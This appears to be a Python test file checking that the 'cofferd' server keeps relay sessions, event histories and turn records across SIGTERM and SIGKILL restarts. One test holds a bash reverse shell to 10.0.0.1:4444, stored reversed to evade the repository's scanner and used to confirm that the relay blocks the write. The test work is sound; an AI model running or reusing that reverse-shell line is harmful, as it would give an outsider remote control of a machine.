"""Restarts lose nothing (docs/design.md, "State in the store"; API.md, "Running on
several nodes"): a cofferd stopped with SIGTERM or killed with SIGKILL comes back with
every relay session (paused until its client reconnects, then active; counts, log and
timers kept), every event history (an SSE client resuming with Last-Event-ID gets what
it missed, relay and agent events alike) and every turn record (the next call on a turn
works; an ended turn stays 410). Runs on both passes (embedded SQLite and PostgreSQL)."""

import http.client
import os
import tempfile
import threading
import time

import harness
from harness import check, eq, expect, expect_error
from relay_fake import FakeClient, create, make_agent, wait_status
import turnlib

_n = [0]


def _name(prefix="rs"):
    _n[0] += 1
    return "%s-%d-%d" % (prefix, os.getpid(), _n[0])


def _bounce(srv, how):
    """Restarts `srv` on the same data dir: SIGTERM (a clean exit) or SIGKILL."""
    if how == "term":
        code = srv.stop()
        eq(code, 0, "exit code on SIGTERM")
    else:
        srv.kill()
    srv.start()


def _sse(srv, path, last_id=None, seconds=2.0):
    """Reads the SSE stream at `path` for about `seconds`; returns [(id, type, data)]
    (id None for an event without one)."""
    import json
    conn = http.client.HTTPConnection(srv.host, srv.port, timeout=seconds * harness.SCALE)
    headers = {"Authorization": "Bearer " + srv.key}
    if last_id is not None:
        headers["Last-Event-ID"] = str(last_id)
    conn.request("GET", path, headers=headers)
    resp = conn.getresponse()
    eq(resp.status, 200, "events status of %s" % path)
    out, cur = [], {}
    deadline = time.time() + seconds * harness.SCALE
    try:
        while time.time() < deadline:
            raw = resp.fp.readline()
            if not raw:
                break
            line = raw.decode().rstrip("\n")
            if line.startswith("id: "):
                cur["id"] = int(line[4:])
            elif line.startswith("event: "):
                cur["type"] = line[7:]
            elif line.startswith("data: "):
                cur["data"] = json.loads(line[6:])
            elif line == "" and "type" in cur:
                out.append((cur.get("id"), cur["type"], cur.get("data")))
                cur = {}
    except (OSError, http.client.HTTPException):
        pass  # the read timed out: what came is what there is
    conn.close()
    return out


def _relay_session(srv, files):
    agent = make_agent(srv, _name())
    s = create(srv, agent)
    root = tempfile.mkdtemp(prefix="relay-restart-")
    for p, data in files.items():
        with open(os.path.join(root, p), "w") as f:
            f.write(data)
    c = FakeClient(srv, s["uid"], s["connectToken"], root)
    eq(c.status, 200, "connect status")
    wait_status(srv, s["uid"], "active")
    return s, c, root


def _op(srv, uid, **body):
    return srv.post("/v1/relay/sessions/%s/ops" % uid, json=body)


def _session_survives(how):
    with harness.server() as srv:
        s, c, root = _relay_session(srv, {"a.txt": "hello"})
        uid = s["uid"]
        eq(expect(_op(srv, uid, op="read_file", path="a.txt"), 200).json()["content"],
           "hello", "read before the restart")
        expect(_op(srv, uid, op="write_file", path="b.txt", content="written"), 200)
        # a reverse shell, spelled backwards here so that this file passes the guard
        # (test_guard_views scans the repository)
        shell = "1&>0 4444/1.0.0.01/pct/ved/ &>i- hsab"[::-1]
        blocked = _op(srv, uid, op="write_file", path="x.sh", content=shell)
        expect_error(blocked, 422)
        before = expect(srv.get("/v1/relay/sessions/" + uid), 200).json()
        log_before = expect(srv.get("/v1/relay/sessions/%s/log" % uid), 200).json()["entries"]
        _bounce(srv, how)
        c.close()
        got = expect(srv.get("/v1/relay/sessions/" + uid), 200).json()
        eq(got["status"], "paused", "status after the restart, before the client is back")
        eq(got["counts"], before["counts"], "counts kept across the restart")
        eq((got["mode"], got["startedAt"], got["exclusions"]),
           (before["mode"], before["startedAt"], before["exclusions"]), "session kept")
        log = expect(srv.get("/v1/relay/sessions/%s/log" % uid), 200).json()["entries"]
        eq(log[:len(log_before)], log_before, "the log kept across the restart")
        check(any(e.get("outcome") == "blocked" and e.get("blocked") for e in log),
              "the blocked write is in the log with the scan's result: %r" % log)
        expect_error(_op(srv, uid, op="read_file", path="a.txt"), 503)
        # the client reconnects with the same token: active again, ops go through
        c2 = FakeClient(srv, uid, s["connectToken"], root)
        eq(c2.status, 200, "reconnect after the restart")
        wait_status(srv, uid, "active")
        eq(expect(_op(srv, uid, op="read_file", path="b.txt"), 200).json()["content"],
           "written", "an op after the reconnect")
        got = expect(srv.get("/v1/relay/sessions/" + uid), 200).json()
        eq(got["counts"]["reads"], before["counts"]["reads"] + 1, "counts go on")
        c2.close()


def test_relay_concurrent_sessions_stored_in_order():
    """Two sessions written at once, by several callers each: every write of each
    session is stored, and in the order it was made (src/relay/wqueue.c: the relay's
    store writes are made after its lock is dropped, one session's oldest first). The
    session's record is read back after a SIGKILL, so what is compared is what was
    stored: a record rewritten out of order (an older one stored last) would carry
    fewer writes than were answered. On the pg pass this is PostgreSQL."""
    callers, n = 4, 12
    with harness.server() as srv:
        sessions = [_relay_session(srv, {}) for _ in range(2)]
        bad = []

        def writer(uid, t):
            for i in range(n):
                r = _op(srv, uid, op="write_file", path="c%d-%03d.txt" % (t, i),
                        content="x" * (i + 1))
                if r.status != 200:
                    bad.append((uid, t, i, r.status, r.text()[:200]))

        threads = [threading.Thread(target=writer, args=(s["uid"], t))
                   for s, _, _ in sessions for t in range(callers)]
        for th in threads:
            th.start()
        for th in threads:
            th.join()
        eq(bad, [], "every write answered 200")
        for s, c, _ in sessions:
            log = expect(srv.get("/v1/relay/sessions/%s/log" % s["uid"]), 200).json()
            done = [e["path"] for e in log["entries"]
                    if e.get("op") == "write_file" and e.get("outcome") == "ok"]
            eq(len(done), callers * n, "writes in session %s's stored log" % s["uid"])
            for t in range(callers):
                mine = [p for p in done if p.startswith("c%d-" % t)]
                eq(mine, ["c%d-%03d.txt" % (t, i) for i in range(n)],
                   "caller %d's writes in the stored log, in the order it made them" % t)
        _bounce(srv, "kill")  # clients still attached: no later record rewrites the counts
        for s, _, _ in sessions:
            got = expect(srv.get("/v1/relay/sessions/" + s["uid"]), 200).json()
            eq((got["counts"]["writes"], got["counts"]["bytesWritten"]),
               (callers * n, callers * n * (n + 1) // 2),
               "session %s's stored counts after SIGKILL" % s["uid"])
        for _, c, _ in sessions:
            c.close()


def test_relay_session_survives_sigterm():
    _session_survives("term")


def test_relay_session_survives_sigkill():
    _session_survives("kill")


def test_relay_events_replay_after_last_event_id_across_restart():
    with harness.server() as srv:
        s, c, root = _relay_session(srv, {"a.txt": "hello"})
        uid, path = s["uid"], "/v1/relay/sessions/%s/events" % s["uid"]
        seen = _sse(srv, path, seconds=1.5)
        check(seen and all(i is not None for i, _, _ in seen), "events have ids: %r" % seen)
        last = seen[-1][0]
        # while no stream is open: a write (write_result), then the kill
        expect(_op(srv, uid, op="write_file", path="w.txt", content="x"), 200)
        _bounce(srv, "kill")
        c.close()
        c2 = FakeClient(srv, uid, s["connectToken"], root)
        eq(c2.status, 200, "reconnect")
        wait_status(srv, uid, "active")
        got = _sse(srv, path, last_id=last, seconds=1.5)
        ids = [i for i, _, _ in got]
        eq(ids, list(range(last + 1, last + 1 + len(ids))), "ids follow on from Last-Event-ID")
        types = [t for _, t, _ in got]
        for want in ("write_result", "pause", "resume"):
            check(want in types, "%s replayed after the restart: %r" % (want, types))
        check(types.index("write_result") < types.index("pause") < types.index("resume"),
              "in the order they happened: %r" % types)
        # every event of the history, from the start, is still there
        full = _sse(srv, path, last_id=0, seconds=1.5)
        eq([i for i, _, _ in full][:len(seen)], [i for i, _, _ in seen], "history kept")
        c2.close()


def test_relay_grace_time_runs_across_restart():
    with harness.server(args=["--relay-grace", "2"]) as srv:
        s, c, root = _relay_session(srv, {})
        c.close()
        wait_status(srv, s["uid"], "paused")
        srv.stop()
        time.sleep(2.5)
        srv.start()
        got = expect(srv.get("/v1/relay/sessions/" + s["uid"]), 200).json()
        eq((got["status"], got.get("endReason")), ("ended", "grace"),
           "the grace time counted while cofferd was down")
        eq(FakeClient(srv, s["uid"], s["connectToken"], root).status, 410,
           "an ended session refuses its client")


def test_ended_relay_session_stays_ended_across_restart():
    with harness.server() as srv:
        s, c, root = _relay_session(srv, {})
        expect(srv.delete("/v1/relay/sessions/" + s["uid"]), 200)
        _bounce(srv, "kill")
        got = expect(srv.get("/v1/relay/sessions/" + s["uid"]), 200).json()
        eq((got["status"], got["endReason"]), ("ended", "closed"), "still ended")
        expect_error(_op(srv, s["uid"], op="read_file", path="a"), 410)


def test_agent_events_replay_after_last_event_id_across_restart():
    with harness.server() as srv:
        vol = srv.create_volume("shared")["id"]
        agent = _name("ag")
        expect(srv.put("/v1/agents/" + agent, json={"mounts": [
            {"volumeId": vol, "path": "/shared", "mode": "rw"}]}), 201)
        srv.put_ok(vol, "one.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>")
        srv.put_ok(vol, "two.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>")
        present = "/v1/agents/%s/tools/present_file" % agent
        expect(srv.post(present, json={"path": "/shared/one.svg"}), 200)
        first = _sse(srv, "/v1/agents/%s/events" % agent, last_id=0, seconds=1.5)
        eq([(t, d["path"]) for _, t, d in first], [("file_presented", "/shared/one.svg")],
           "the stored history from the start")
        last = first[-1][0]
        check(last is not None, "agent events have ids")
        expect(srv.post(present, json={"path": "/shared/two.svg"}), 200)
        _bounce(srv, "kill")
        got = _sse(srv, "/v1/agents/%s/events" % agent, last_id=last, seconds=1.5)
        eq([(i, t, d["path"]) for i, t, d in got],
           [(last + 1, "file_presented", "/shared/two.svg")],
           "what the stream missed, after a SIGKILL")
        none = _sse(srv, "/v1/agents/%s/events" % agent, seconds=1.0)
        eq(none, [], "without Last-Event-ID: from now on")


def _turn_survives(how):
    with harness.server() as srv:
        agent = turnlib.make_agent(srv)
        t = turnlib.new_turn(srv, agent)
        r = expect(srv.post("/v1/turns/%s/calls" % t["id"],
                            json={"command": "echo before"}), 200).json()
        eq(r["stdout"], "before\n", "a call before the restart")
        _bounce(srv, how)
        got = expect(srv.get("/v1/turns/" + t["id"]), 200).json()
        eq((got["agent"], got["user"], got["deadline"]), (agent, "u1", t["deadline"]),
           "the turn's record after the restart")
        r = expect(srv.post("/v1/turns/%s/calls" % t["id"],
                            json={"command": "echo after; ls -A"}), 200).json()
        eq(r["exitCode"], 0, "the next call works: %r" % r)
        check(r["stdout"].startswith("after\n"), "its output: %r" % r["stdout"])
        expect(srv.delete("/v1/turns/" + t["id"]), 204)
        _bounce(srv, how)
        expect_error(srv.post("/v1/turns/%s/calls" % t["id"], json={"command": "true"}), 410)


def test_turn_survives_sigterm():
    _turn_survives("term")


def test_turn_survives_sigkill():
    _turn_survives("kill")


def test_call_running_at_the_kill_ends_and_the_turn_goes_on():
    import threading
    with harness.server() as srv:
        t = turnlib.new_turn(srv)
        marker = _name("mk")
        outcome = []

        def long_call():
            try:
                r = srv.post("/v1/turns/%s/calls" % t["id"],
                             json={"command": "sleep 30 # " + marker})
                outcome.append(r.status)
            except Exception as e:  # the connection dies with cofferd
                outcome.append(type(e).__name__)
        th = threading.Thread(target=long_call, daemon=True)
        th.start()
        deadline = time.time() + 10 * harness.SCALE
        while not turnlib.processes_with(marker) and time.time() < deadline:
            time.sleep(0.05)
        check(turnlib.processes_with(marker), "the call runs")
        _bounce(srv, "kill")
        th.join(10 * harness.SCALE)
        check(outcome and outcome[0] != 200, "the running call did not answer 200: %r" % outcome)
        if os.geteuid() == 0:  # a uid per turn: what is left of the call is killed
            deadline = time.time() + 10 * harness.SCALE
            while turnlib.processes_with(marker) and time.time() < deadline:
                time.sleep(0.1)
            eq(turnlib.processes_with(marker), [], "the killed call's processes are gone")
        r = turnlib.ok(srv, t["id"], "echo again")
        eq(r["stdout"], "again\n", "the next call on the turn works")
